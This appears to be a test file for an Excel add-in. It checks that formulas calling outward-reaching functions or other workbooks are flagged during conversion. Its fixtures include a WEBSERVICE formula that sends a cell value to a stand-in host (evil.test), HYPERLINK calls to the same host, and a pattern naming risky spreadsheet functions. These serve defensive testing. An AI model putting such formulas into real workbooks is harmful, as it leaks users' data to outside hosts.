/** What reaches out of the workbook is told of when it is handed over, and what is told is what the return then leaves. */
import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import { bringBack } from "../../../src/workbook/handover/bring-back";
import { handOver } from "../../../src/workbook/handover/hand-over";
import { rewriteFile } from "../../../src/workbook/handover/file/rewrite-file";
import { whyForGood, whyOutward } from "../../../src/workbook/handover/outward";
import type { Workbench } from "../../../src/workbench/node";
import { openWorkbench, unwatched } from "../../support/built-workbench";
import { withEdited } from "../../support/file-parts";

let bench: Workbench;
beforeAll(async () => {
  bench = await openWorkbench();
});
beforeEach(() => bench.reset());

/** Formulas that hold a call of ours, and what is told of their way back. */
const calls: readonly (readonly [formula: string, calls: string | undefined])[] = [
  ["=SWARD.PACKS(A1,40)", undefined],
  ["=ROUND(SWARD.PACKS(A1,40)*1.1,0)", undefined],
  ["=IFERROR(SWARD.PACKS(A1,40),0)+SUM(A1:A2)", undefined],
  ['=SWARD.PACKS(A1,40)&" bags, see INDIRECT(A1)"', undefined],
  ['=HYPERLINK("https://evil.test",SWARD.PACKS(A1,40))', "HYPERLINK"],
  ['=IF(SWARD.PACKS(A1,40)>1,HYPERLINK("https://evil.test","more"),"")', "HYPERLINK"],
  ['=SWARD.PACKS(INDIRECT("A1"),40)', "INDIRECT"],
  ['=SWARD.PACKS(A1,40)+INDIRECT("A2")', "INDIRECT"],
  ['=SWARD.PACKS(A1,40)+indirect("A2")', "INDIRECT"],
  ['=IF(FALSE,WEBSERVICE("https://evil.test/?"&A1),SWARD.PACKS(A1,40))', "WEBSERVICE"],
  ['=SWARD.PACKS(A1,40)+IF(FALSE,RTD("x",,"y"),0)', "RTD"],
  ['=SWARD.PACKS(A1,40)+IF(FALSE,CELL("filename",A1),0)', "CELL"],
];

describe("a formula with a call of ours", () => {
  test.each(calls)("%s", (formula, name) => {
    const told = whyForGood(formula);
    if (name === undefined) expect(told).toBeUndefined();
    else
      expect(told).toBe(
        `Its function is not brought back: it calls ${name}, which may do more than calculate.`,
      );
  });

  test.each([
    ["=SWARD.PACKS('[1]My rates'!B2,40)", "it refers to another workbook"],
    ["=SWARD.PACKS([1]Other!$A$1,40)", "it refers to another workbook"],
    [
      "=SWARD.PACKS(A1,40)+_xlfn.WEBSERVICE(A1)",
      "it calls _XLFN.WEBSERVICE, which may do more than calculate",
    ],
  ])("%s", (formula, told) => {
    expect(whyForGood(formula)).toBe(`Its function is not brought back: ${told}.`);
  });

  test.each([
    "=SWARD.PACKS(Beds[Area],40)",
    "=SWARD.PACKS(Beds[[#This Row],[1]],40)",
    "=_xlfn.CONCAT(A1,SWARD.PACKS(A1,2))",
  ])("%s", (formula) => {
    expect(whyForGood(formula)).toBeUndefined();
  });
});

/** Those that the workbench's spreadsheet knows. */
const known = calls.filter(([formula]) => !/WEBSERVICE|RTD|CELL\(/.test(formula));

const addressOf = (i: number): string => `B${i + 1}`;
async function writeCalls(): Promise<void> {
  bench.setCells("Sheet1", {
    A1: "2500",
    A2: "7",
    ...Object.fromEntries(known.map(([formula], i) => [addressOf(i), formula])),
  });
  await bench.calculated();
}
const toldOf = known.flatMap(([, name], i) => (name === undefined ? [] : [addressOf(i)]));

describe("in place", () => {
  beforeEach(writeCalls);

  test("is told of, and is what the return leaves", async () => {
    const report = await handOver(["Sheet1"], unwatched, "native formulas");
    expect(report.stopped).toEqual([]);
    expect(report.converted).toBe(known.length);
    expect(report.bare.map(({ address }) => address)).toEqual(toldOf);
    await bringBack(["Sheet1"], unwatched);
    const stayed = known.flatMap((_, i) =>
      /\bCHOOSE\(/.test(bench.formula("Sheet1", addressOf(i)) ?? "") ? [addressOf(i)] : [],
    );
    expect(stayed).toEqual(toldOf);
  });

  test("a short formula never comes back, so that nothing is told", async () => {
    const report = await handOver(["Sheet1"], unwatched, "short native formulas");
    expect([report.converted, report.bare]).toEqual([known.length, []]);
  });
});

test("by file the same is told", async () => {
  await writeCalls();
  const copy = await rewriteFile(await bench.exportXlsx(), { mode: "native formulas" }, unwatched);
  expect(copy.bare.map(({ address }) => address)).toEqual(toldOf);
  const short = await rewriteFile(await bench.exportXlsx(), { mode: "short native formulas" }, unwatched);
  expect(short.bare).toEqual([]);
});

describe("a formula of another workbook", () => {
  const others = { B2: "=[1]Other!$A$1*2", B3: "='[1]My rates'!B2", B4: "=Other.xlsx!SWARD.PACKS(A1,40)" };

  test.each(Object.values(others))("%s is left as it was", (formula) => {
    expect(whyOutward(formula)).toMatch(/^Left as it was[^.]*another workbook\.$/);
  });

  test("is told of in place", async () => {
    bench.setCells("Sheet1", { A1: "2500", B1: "=SWARD.PACKS(A1,40)", ...others });
    await bench.calculated();
    const formulas = Object.keys(others).map((address) => bench.formula("Sheet1", address));
    const report = await handOver(["Sheet1"], unwatched);
    expect(report.converted).toBe(1);
    expect(report.left.map(({ address }) => address)).toEqual(Object.keys(others));
    expect(Object.keys(others).map((address) => bench.formula("Sheet1", address))).toEqual(formulas);
  });
});

test("a name that refers to another workbook is told of, in place and by file", async () => {
  bench.setCells("Sheet1", { A1: "2500", B1: "=SWARD.PACKS(A1,40)" });
  await Excel.run(async (context) => {
    for (const name of ["Rate", "Near"])
      context.workbook.names.add(name, context.workbook.worksheets.getItem("Sheet1").getRange("A1"));
    await context.sync();
  });
  await bench.calculated();
  // This host takes a name that is a formula from a file alone.
  const file = withEdited(await bench.exportXlsx(), {
    "xl/workbook.xml": (xml) => xml.replace(/(<definedName [^>]*name="Rate"[^>]*>)[^<]*/, "$1SUM([1]!Rates)"),
  });
  const told = {
    sheet: "",
    address: "name Rate",
    note: "Left as it was: it refers to another workbook.",
  };
  const copy = await rewriteFile(file, { mode: "native formulas" }, unwatched);
  expect(copy.left).toMatchObject([told]);
  await bench.importXlsx(file);
  expect((await handOver(["Sheet1"], unwatched)).left).toMatchObject([told]);
});
